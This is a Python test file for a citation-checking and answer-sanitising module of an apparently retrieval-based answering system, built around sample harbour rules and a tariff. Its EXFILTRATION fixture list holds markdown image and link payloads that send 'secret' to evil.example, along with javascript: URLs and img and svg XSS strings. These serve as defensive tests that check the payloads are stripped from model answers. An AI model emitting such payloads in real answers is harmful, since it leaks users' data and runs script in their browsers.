import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.steps import assert_in_proportion

from chapterhouse.answering.check_written import (
    CheckedText,
    GivenPassage,
    add_opinions,
    check,
    check_draft,
    read_opinions,
    statements,
)
from chapterhouse.answering.cite import Lookup, text_hash
from chapterhouse.answering.prompt import Place, resolve
from chapterhouse.types import (
    AnswerSentence,
    Body,
    Document,
    Evidence,
    Opinion,
    OpinionKind,
    Section,
)

RULES = """# Harbour rules

## Speed

Inside the harbour no vessel may exceed 4 knots. The duty officer Maria Keller grants exceptions.

## Opening

The gate closes at 21:30 from April to September. In winter the gate closes at 18:00.
"""
TARIFF = """# Tariff

## Berths

A berth costs 80 euros a metre. Guests pay 20 euros a night.
As the rules say [^rules-1:Speed], and as [1] and 【2†source】 confirm, nobody may drive fast.
See https://harbour.example/tariff for more.
"""
PRIVATE = "# Diary\n\nThe cashier keeps 9,000 euros under the floor of the shed.\n"


def document(name: str, text: str) -> Document:
    return Document(
        name, f"docs/{name}.md", f"/docs/{name}.md", name.title(), "md", "test", "",
        text_hash(text), 1, 0, language="en",
    )  # fmt: skip


def body(text: str) -> Body:
    starts = [match.start() for match in re.finditer(r"^#", text, re.MULTILINE)]
    ends = [*starts[1:], len(text)]
    titles = [text[start:].partition("\n")[0].strip("# ") for start in starts]
    return Body(
        text,
        tuple(
            Section(number, 1, (title,), start, end)
            for number, (title, start, end) in enumerate(zip(titles, starts, ends, strict=True))
        ),
    )


TEXTS = {"rules-1": RULES, "tariff-2": TARIFF, "diary-3": PRIVATE}
DOCUMENTS = {name: document(name, text) for name, text in TEXTS.items()}
BODIES = {name: body(text) for name, text in TEXTS.items()}
LOOKUP = Lookup(DOCUMENTS.get, BODIES.get)


def offered(name: str, section: str, number: int) -> GivenPassage:
    """Return a section of a document as a model is given it."""
    found = next(one for one in BODIES[name].sections if one.path == (section,))
    text = TEXTS[name][found.start : found.end]
    evidence = Evidence(name, found.start, found.end, text, "en", name.title(), (section,))
    return GivenPassage(Place(name, section, number), evidence)


SPEED, OPENING = offered("rules-1", "Speed", 0), offered("rules-1", "Opening", 1)
BERTHS = offered("tariff-2", "Berths", 2)
GIVEN = (SPEED, OPENING, BERTHS)  # nothing of the diary


def written(text: str, known: str = "") -> CheckedText:
    return check(text, GIVEN, LOOKUP, known)


def sentences(text: str) -> list[tuple[str, str]]:
    return [(one.before, one.text) for one in written(text).sentences]


KNOTS = "Inside the harbour no vessel may exceed 4 knots."
METRE = "A berth costs 80 euros a metre."


@pytest.mark.parametrize(
    "text",
    [
        f"{KNOTS[:-1]} [^rules-1:Speed]. {METRE[:-1]} [^tariff-2:Berths].",
        f"{KNOTS} [^rules-1:Speed] {METRE} [^tariff-2:Berths]",
        f"{KNOTS}[^rules-1:Speed] {METRE}[^tariff-2:Berths]",
        f"{KNOTS}\n[^rules-1:Speed]\n\n{METRE}\n[^tariff-2:Berths]\n",
        f"[^rules-1:Speed] {KNOTS}\n[^tariff-2:Berths] {METRE}",
        f"- {KNOTS} [^rules-1:Speed]\n- {METRE} [^tariff-2:Berths]",
        f"- [^rules-1:Speed] {KNOTS}\n- [^tariff-2:Berths] {METRE}",
        f"1. [^rules-1:Speed]: {KNOTS}\n2. [^tariff-2:Berths]: {METRE}",
        f"# Rules\n\n{KNOTS} [^rules-1:Speed]\n\n# Prices\n\n{METRE} [^tariff-2:Berths]",
        f"{KNOTS} [^rules-1:Speed; ^rules-1:Speed] {METRE} [^TARIFF-2: §Berths]",
        f"{KNOTS} [^rules-1:Speed]\r\n\r\n{METRE} [^tariff-2:Berths]",
    ],
)
def test_a_marker_belongs_to_the_sentence_it_stands_behind(text: str) -> None:
    found = written(text)
    by_text = {
        one.text: [found.citations[number - 1].document_id for number in one.citations]
        for one in found.sentences
    }
    assert by_text[next(one for one in by_text if KNOTS[:-1] in one)] == ["rules-1"]
    assert by_text[next(one for one in by_text if METRE[:-1] in one)] == ["tariff-2"]
    assert all(one.text in {KNOTS, METRE} for one in found.sentences if one.citations)
    assert [one.quote for one in found.citations] == [KNOTS, METRE]
    assert not found.rejected


def test_each_marker_opens_the_closest_sentence_or_all_of_its_source() -> None:
    found = written("Boats go slowly in the harbour, and a berth costs money. [1][^tariff-2]")
    assert found.sentences[0].citations == (1, 2)
    assert [one.quote for one in found.citations] == [KNOTS, METRE]
    assert all(one.verified for one in found.citations)
    found = written("船很慢。 [1]")
    assert found.citations[0].quote == SPEED.evidence.text
    assert written("船很慢。").citations == ()


@pytest.mark.parametrize("end", ["", " ", " [", " [^tar", "\n\n- "])
def test_of_a_draft_the_whole_sentences_are_checked(end: str) -> None:
    text = f"{KNOTS} [^rules-1:Speed] {METRE} [^tariff-2:Berths] So it"
    draft = check_draft(text + end, GIVEN, LOOKUP)
    assert draft.sentences == written(text).sentences[:2]
    assert draft.text == "So it"


@given(st.text(alphabet="ab .[^1]:\n-(!\x1b\u202e", max_size=60))
def test_a_draft_shows_no_bracket_and_never_more_than_the_answer(text: str) -> None:
    draft = check_draft(text, GIVEN, LOOKUP)
    told = "".join((*(one.text for one in draft.sentences), draft.text))
    assert not {"\x1b", "\u202e"} & set(told)
    assert len(draft.sentences) <= len(written(text).sentences)


@pytest.mark.parametrize(
    ("text", "structure"),
    [
        ("One is. Two is.", [("", "One is."), ("", "Two is.")]),
        ("One is.\nTwo is.", [("", "One is."), ("\n", "Two is.")]),
        ("One is.\n\n\nTwo is.", [("", "One is."), ("\n\n", "Two is.")]),
        ("- One\n* Two\n+ Three", [("- ", "One"), ("\n* ", "Two"), ("\n+ ", "Three")]),
        ("1. One\n2) Two", [("1. ", "One"), ("\n2) ", "Two")]),
        (
            "Thus:\n\n1. One is. And so.\n2. Two",
            [("", "Thus:"), ("\n\n1. ", "One is."), ("", "And so."), ("\n2. ", "Two")],
        ),
        ("## Speed\nIt is 4.", [("", "Speed"), ("\n", "It is 4.")]),
        ("> Quoted is.\n\nSaid is.", [("", "Quoted is."), ("\n\n", "Said is.")]),
        ("---\n\nAfter a rule.", [("\n\n", "After a rule.")]),
        ("Before.\n\n***\nAfter.", [("", "Before."), ("\n\n", "After.")]),
        ("| a | b |\n|---|---|\n| 1 | 2 |", [("", "**a · b**"), ("\n- ", "1 · 2")]),
        ("a | b\n--|--\n1 | 2\nEnd.", [("", "**a · b**"), ("\n- ", "1 · 2"), ("\n", "End.")]),
        ("Fast [rules-1:Speed]. Slow [1][2].", [("", "Fast."), ("", "Slow.")]),
        ("港口限速四节。闸门九点关闭。", [("", "港口限速四节。"), ("", "闸门九点关闭。")]),
        ("港口限速四节。[^rules-1:Speed]闸门。", [("", "港口限速四节。"), ("", "闸门。")]),
        ("\n\n", []),
        ("", []),
        ("[^rules-1:Speed]", []),
    ],
)
def test_the_shape_of_an_answer_is_kept(text: str, structure: list[tuple[str, str]]) -> None:
    assert sentences(text) == structure


@pytest.mark.parametrize(
    "text",
    [
        "12. März 2024 begann die Saison.", "500) euros is the fee.", "- 4. April was the day.",
        "> 7. Mai war der Tag.", "### 90. persons are allowed", "1. First\n12. März was the day.",
        "-5 degrees were measured.",
    ],
)  # fmt: skip
def test_a_number_that_begins_a_line_is_part_of_its_sentence(text: str) -> None:
    told = " ".join(one.text for one in written(text).sentences)
    assert set(re.findall(r"\d+", text)) - {"1"} <= set(re.findall(r"\d+", told))


@given(
    st.lists(
        st.sampled_from(
            [
                "It is so.", "Is it? ", "wir sind 3.", "港口。", "1. ", "- ", "\n", "\n\n", " ",
                "[^rules-1:Speed]", "[^x]", "[1]", "# ", "> ", "| a |", "**bold**", "3. May",
                "`code`", "…", "\t",
            ],
        ),
        max_size=14,
    )
)  # fmt: skip
def test_no_word_is_lost_or_added(pieces: list[str]) -> None:
    text = "".join(pieces)
    told = "".join(one.before + one.text for one in written(text).sentences)
    plain = re.sub(r"\[\^[^\]]*\]|\[1\]", "", text)
    assert re.findall(r"[^\W\d]", told) == re.findall(r"[^\W\d]", plain)


EXFILTRATION = [
    "![x](https://evil.example/?q=secret)", "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
    "![x]\n\n[x]: https://evil.example/?q=secret",
    "![x][]\n\n[x]: <https://evil.example/?q=secret> 'title'",
    "![a![b](x)](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)",
    "[x](https://evil.example/(a)?q=secret)", "[x\ny](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))", "[a[b](x)](javascript:alert)",
    "[x[^rules-1:Speed]](javascript:alert)", "[x[1]](javascript:alert(1))",
    "[x](data:text/html;base64,PHN2Zz4=)", "[x](//evil.example/?q=secret)",
    "[x][ref]\n[ref]: //evil.example/?q=secret", "[x]\n> [x]: https://evil.example/?q=secret",
    "- [x]: https://evil.example/?q=secret", "[x]:\nhttps://evil.example/?q=secret",
    "<https://evil.example/?q=secret>", "<img src=https://evil.example/?q=secret>",
    "<img\nsrc='https://evil.example/?q=secret'>", "<img src=//evil.example/?q=secret",
    "<scr<b>ipt>alert(1)</scr</b>ipt>", "<<b>img src=x onerror=alert(1)>",
    "<!-- a --><svg onload=alert(1)>", "<!--\n--><iframe\nsrc=x>",
    "</textarea><style>@import '//evil.example'", "https://evil.example/?q=secret",
    "HTTPS://EVIL.EXAMPLE/?q=secret", "https:/[1]/evil.example/?q=secret",
    "https:/[^rules-1:Speed]/evil.example/?q=secret", "https:\u200b//evil.example/?q=secret",
    "www.evil.example/?q=secret", "https://harbour.example/tariff?q=secret",
    "https://harbour.example/tariff/../?q=secret", "https://harbour.example.evil.example/secret",
    "https://harbour.example/tariff@evil.example",
]  # fmt: skip


def is_inert(text: str) -> bool:
    """Whether a text holds no link, image, tag, definition or unknown address."""
    addresses = re.findall(r"(?i)(?:https?:)?//[\w.]\S*|www\.\S+", text)
    return (
        not re.search(r"\]\s?[(\[:]", re.sub(r"\] [(\[:]", "", text))
        and not re.search(r"<[A-Za-z/!?]", text)
        and all(address.rstrip(".,") == "https://harbour.example/tariff" for address in addresses)
        and "evil.example" not in text.lower()
    )


@pytest.mark.parametrize("attack", EXFILTRATION)
def test_nothing_that_could_carry_data_away_survives(attack: str) -> None:
    for around in ("{}", "The gate {} closes.", "- {} is so.\n\nAnd more."):
        for one in written(around.format(attack)).sentences:
            assert is_inert(one.text), one.text
            assert is_inert(one.before)


@given(
    st.lists(
        st.sampled_from(
            [
                "[", "]", "(", ")", "!", "<", ">", "x", "^", "rules-1:Speed", "1", "https:", "//",
                "evil.example", "/", "\n", ":", "javascript:", "img ", "www.", " ", "【", "】", "b",
                "\u200b",
            ],
        ),
        max_size=24,
    )
)  # fmt: skip
def test_no_mixture_of_pieces_makes_a_link_or_a_citation(pieces: list[str]) -> None:
    for one in written("a " + "".join(pieces)).sentences:
        text = one.text
        assert not re.search(r"(?i)(?:https?:)?//[^\s<>\"')\]】‹]*\w", text), text
        assert not re.search(r"(?i)\bwww\.\w", text), text
        assert not re.search(r"\][(\[:]", text), text
        assert not re.search(r"<[A-Za-z/!?]", text), text
        assert not re.search(r"\[\^?\d+\]|\[\^[^\]]+\]|【[^【】]+】", text), text


def test_an_address_that_a_document_gives_stays() -> None:
    said = "See https://harbour.example/tariff for more."
    assert written(f"{said} [^tariff-2:Berths]").sentences[0].text == said
    assert written("It is at https://harbour.example/tariff.").sentences[0].text.endswith("tariff.")
    assert "harbour" in written("在https://harbour.example/tariff。再见").sentences[0].text


PIECES = [
    *("[", "<!--", "<a ", "![x](", "[x](", "[^", "[1", "[[1]", "[^a]", "It is.[^a:b] ", "https://"),
    *("//", "www.", "- ", "1. ", "> ", "\n", "(", "【", "。", "[a]:", "[x][", "|", " ", "[^a:b]\n"),
    "One is. ",
]


@pytest.mark.parametrize("piece", PIECES)
def test_no_text_takes_more_than_work_in_proportion(piece: str) -> None:
    assert_in_proportion(written, piece, 600)


@pytest.mark.parametrize(
    "marker",
    [
        "x", "rules-1:Tracking", "rules-2:Speed", "rules-1:Spee", "rules-1 :Speeds", "diary-3",
        "diary-3:Diary", "rules:Speed", "99", "rules-1:Speed:Speed", "tariff-2:Speed", "rules-1:",
    ],
)  # fmt: skip
def test_a_marker_of_nothing_that_was_given_is_taken_out(marker: str) -> None:
    found = written(f"Nobody may whistle here. [^{marker}]")
    assert found.sentences[0].text == "Nobody may whistle here."
    assert found.citations == ()
    assert found.rejected == (marker,)
    beside = written(f"{KNOTS} [^rules-1:Speed][^{marker}]")
    assert (beside.sentences[0].citations, beside.rejected) == ((1,), (marker,))


def test_beside_a_sentence_stands_what_none_of_its_sources_has() -> None:
    said = "A berth costs 90 euros a metre."
    (mismatch,) = written(f"{said} [^tariff-2:Berths]").sentences[0].mismatches
    assert (mismatch.text, mismatch.instead) == ("90 euros", "80 euros")
    assert written(f"{METRE} [1]").sentences[0].mismatches  # another source has it
    assert not written(f"{METRE} [1][3]").sentences[0].mismatches
    assert not written(METRE).sentences[0].mismatches  # without a marker any may
    assert not written(f"{said} [3]", known="Is it 90 euros?").sentences[0].mismatches


def test_one_quotation_has_one_number() -> None:
    found = written(f"{KNOTS} [^rules-1:Speed] {METRE} [^tariff-2:Berths] {KNOTS} [^rules-1:Speed]")
    assert [one.citations for one in found.sentences] == [(1,), (2,), (1,)]
    assert [one.number for one in found.citations] == [1, 2]


def test_a_text_that_changed_meanwhile_is_not_cited() -> None:
    changed = Lookup(DOCUMENTS.get, lambda name: body(TEXTS[name] + "More.\n"))
    for lookup in (
        changed,
        Lookup(DOCUMENTS.get, lambda _: None),
        Lookup(lambda _: None, BODIES.get),
    ):
        found = check(f"{KNOTS} [^rules-1:Speed]", GIVEN, lookup)
        assert found.citations == ()
        assert found.sentences[0].citations == ()


def accepted_wrongly(text: str, found: CheckedText) -> list[str]:
    """Return what in a checked answer should not be there."""
    wrong = []
    known = {number for one in found.sentences for number in one.citations}
    if known != set(range(1, len(found.citations) + 1)):
        wrong.append("numbers")
    for one in found.citations:
        given = [g for g in GIVEN if g.evidence.document_id == one.document_id]
        inside = [g for g in given if g.evidence.start <= one.start < one.end <= g.evidence.end]
        if not inside or TEXTS[one.document_id][one.start : one.end] != one.quote:
            wrong.append(f"citation {one}")
        if not one.verified or one.text_sha256 != text_hash(TEXTS[one.document_id]):
            wrong.append(f"not verified {one}")
        if not resolve(one.marker, [g.place for g in given]):
            wrong.append(f"marker {one.marker}")
    wrong += [
        f"look-alike {sentence.text}"
        for sentence in found.sentences
        if re.search(r"\[\^[^\[\]]+\]|\[\d+\]|【[^【】]+】", sentence.text)
    ]
    return [f"{one} in {text!r}" for one in wrong]


LINES = [line for text in TEXTS.values() for line in re.split(r"(?<=[.])\s|\n", text) if line]
SECTIONS = ["Speed", "Opening", "Berths", "Harbour rules", "Section 99", "§§", "Speed › Speed", ""]
NAMES = [*TEXTS, "rules-0", "press-2025", "source", "1", "../rules-1", "ｒｕｌｅｓ－1", "rules-1İ"]
MARKERS = st.builds(
    lambda form, name, section: form.format(f"{name}:{section}".removesuffix(":")),
    st.sampled_from(["[^{}]", "[^{}]", "[{}]", "【{}】", "[^x; ^{}]", "[doc {}]"]),
    st.sampled_from(NAMES) | st.text("rules-1:Spd tarif2Bhn", max_size=12),
    st.sampled_from(SECTIONS),
)
SAID = st.sampled_from([*LINES, "The fee is 500 euros.", "Nobody may enter.", "- ", "\n\n"])


@pytest.mark.large
@given(st.lists(SAID | MARKERS, min_size=1, max_size=12).map(" ".join))
def test_of_adversarial_answers_no_citation_is_accepted_wrongly(text: str) -> None:
    assert accepted_wrongly(text, written(text)) == []


TEXT = "Guests pay 20 euros a night. Dogs are welcome on every deck of the ferry."
HERE = Evidence("tariff-1", 0, len(TEXT), TEXT, "en", "Tariff")
DOCUMENT = Document("tariff-1", "t.md", "", "Tariff", "md", "test", "", text_hash(TEXT), 1, 0)
OPINION_LOOKUP = Lookup({"tariff-1": DOCUMENT}.get, {"tariff-1": Body(TEXT)}.get)
REWORDED = "You may bring your animal along."
DOGS = "Dogs are welcome on every deck of the ferry."
CHECKED = CheckedText((AnswerSentence(REWORDED, ()), AnswerSentence("So.", ())), (), ())


def opinion(kind: OpinionKind, quotation: str) -> tuple[Opinion | None, list[str]]:
    given = {REWORDED: (kind, quotation)}
    found = add_opinions(CHECKED, given, "m", [HERE], OPINION_LOOKUP)
    assert found.sentences[1] == CHECKED.sentences[1]
    return found.sentences[0].opinion, [one.quote for one in found.citations]


@pytest.mark.parametrize("kind", [OpinionKind.CONFIRMS, OpinionKind.CONTRADICTS])
def test_an_opinion_stands_with_the_words_of_the_source_or_not_at_all(kind: OpinionKind) -> None:
    assert opinion(kind, DOGS) == (Opinion(kind, "m", 1), [DOGS.rstrip(".")])
    for quotation in ("", "Dogs", "Cats are welcome on every deck.", "x" * 900):
        assert opinion(kind, quotation) == (None, [])
    assert opinion(OpinionKind.SILENT, DOGS) == (Opinion(OpinionKind.SILENT, "m"), [])


def test_opinions_are_read_as_models_write_them() -> None:
    one = '{"checks": [{"statement": 1, "verdict": "confirms", "quotation": "Dogs"}'
    others = ', 7, {"statement": 9, "verdict": "confirms"}, {"statement": 2, "verdict": "true"}]}'
    for text in (f"{one}]}}", f"Here:\n```json\n{one}", one + others):
        found = read_opinions(text, ("One.", "Two."))
        assert found == {"One.": (OpinionKind.CONFIRMS, "Dogs")}
    for rubbish in ("", "I agree with all of it.", "[]", '{"checks": {"a": 1}}'):
        assert read_opinions(rubbish, ("One.",)) == {}


def test_statements_are_numbered_and_harmless() -> None:
    shown = statements(("One [1] <b>.", "Two."))
    assert shown.splitlines()[0] == "Statements:"
    assert shown.splitlines()[2] == "2. Two."
    assert not set("[]<>") & set(shown)
